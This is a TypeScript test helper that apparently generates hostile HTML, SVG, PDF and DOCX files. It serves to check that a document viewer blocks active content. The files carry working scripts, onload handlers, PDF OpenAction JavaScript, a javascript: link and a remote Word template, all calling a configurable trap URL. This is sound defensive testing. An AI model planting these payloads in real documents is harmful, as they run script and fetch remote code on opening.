import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { crc32 } from "node:zlib";

/** Files as a dossier's enemy makes them: each tries to run, to load and to lead to `trap`. `words`: what is shown of it; null where it is not opened here. */
export function hostileFiles(
  folder: string,
  trap: string,
): readonly { readonly file: string; readonly words: string | null }[] {
  mkdirSync(folder, { recursive: true });
  const made = [
    { name: "会动的网页.html", words: null, bytes: html(trap) },
    { name: "会动的图片.svg", words: null, bytes: svg(trap) },
    { name: "会动的报告.pdf", words: "Words of the PDF", bytes: pdf(trap) },
    { name: "会动的文档.docx", words: "文档里的字", bytes: docx(trap) },
  ];
  return made.map(({ name, words, bytes }) => {
    const file = path.join(folder, name);
    writeFileSync(file, bytes);
    return { file, words };
  });
}

/** What any of them would do if it could run. */
const deed = (trap: string): string =>
  `try{top.document.title='taken';top.taken=true}catch(e){}fetch('${trap}script');new Image().src='${trap}pixel';open('${trap}window')`;

function html(trap: string): Buffer {
  return Buffer.from(`<!doctype html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=${trap}refresh">
<link rel="stylesheet" href="${trap}style.css"><script src="${trap}remote.js"></script><script>${deed(trap)}</script></head>
<body onload="${deed(trap)}"><p>网页里的字</p><img src="${trap}image" onerror="${deed(trap)}"><iframe src="${trap}frame"></iframe>
<form action="${trap}form" target="_top"><input autofocus onfocus="this.form.submit()"></form></body></html>`);
}

function svg(trap: string): Buffer {
  return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100" onload="${deed(trap)}"><script>${deed(trap)}</script>
<image href="${trap}svg-image" width="10" height="10"/><foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml" onload="${deed(trap)}"/></foreignObject>
<rect width="300" height="100" fill="teal"/></svg>`);
}

function pdf(trap: string): Buffer {
  const text = "BT /F1 24 Tf 72 700 Td (Words of the PDF) Tj ET";
  const script = `app.alert('taken'); this.submitForm('${trap}pdf-form'); app.launchURL('${trap}pdf-launch')`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replaceAll(/[()]/g, "\\$&")}) >> /AA << /WC << /S /URI /URI (${trap}close) >> >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O << /S /URI /URI (${trap}page-open) >> >>
 /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${trap}link) >> >>] >>`,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let out = "%PDF-1.7\n";
  const starts = objects.map((object, index) => {
    const start = out.length;
    out += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return start;
  });
  const rows = starts.map((start) => `${String(start).padStart(10, "0")} 00000 n \n`).join("");
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${out.length}\n%%EOF\n`;
  return Buffer.from(`${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}${trailer}`, "latin1");
}

function docx(trap: string): Buffer {
  const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const packaged = "http://schemas.openxmlformats.org/package/2006";
  const word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  const head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
  return stored({
    "[Content_Types].xml": `${head}<Types xmlns="${packaged}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    "_rels/.rels": `${head}<Relationships xmlns="${packaged}/relationships"><Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/></Relationships>`,
    "word/_rels/document.xml.rels": `${head}<Relationships xmlns="${packaged}/relationships"><Relationship Id="r1" Type="${office}/image" Target="${trap}word-image" TargetMode="External"/><Relationship Id="r2" Type="${office}/hyperlink" Target="javascript:${deed(trap).replaceAll("'", "%27")}" TargetMode="External"/><Relationship Id="r3" Type="${office}/aFChunk" Target="chunk.html"/><Relationship Id="r4" Type="${office}/attachedTemplate" Target="${trap}template.dotm" TargetMode="External"/></Relationships>`,
    "word/chunk.html": html(trap).toString("utf8"),
    "word/document.xml": `${head}<w:document xmlns:w="${word}" xmlns:r="${office}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:hyperlink r:id="r2"><w:r><w:t>文档里的字</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><wp:inline><wp:extent cx="99999" cy="99999"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="r1"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p><w:altChunk r:id="r3"/></w:body></w:document>`,
  });
}

/** A ZIP of stored entries. */
function stored(entries: Readonly<Record<string, string>>): Buffer {
  const [parts, directory]: [Buffer[], Buffer[]] = [[], []];
  let at = 0;
  for (const [name, text] of Object.entries(entries)) {
    const [label, bytes] = [Buffer.from(name), Buffer.from(text)];
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(0x0800, 2);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(bytes.length, 14);
    common.writeUInt32LE(bytes.length, 18);
    common.writeUInt16LE(label.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    parts.push(Buffer.from("PK\u0003\u0004", "latin1"), common, label, bytes);
    directory.push(Buffer.from("PK\u0001\u0002\u0014\u0000", "latin1"), common, place, label);
    at += 30 + label.length + bytes.length;
  }
  const index = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(directory.length / 4, 4);
  end.writeUInt16LE(directory.length / 4, 6);
  end.writeUInt32LE(index.length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, index, Buffer.from("PK\u0005\u0006", "latin1"), end]);
}
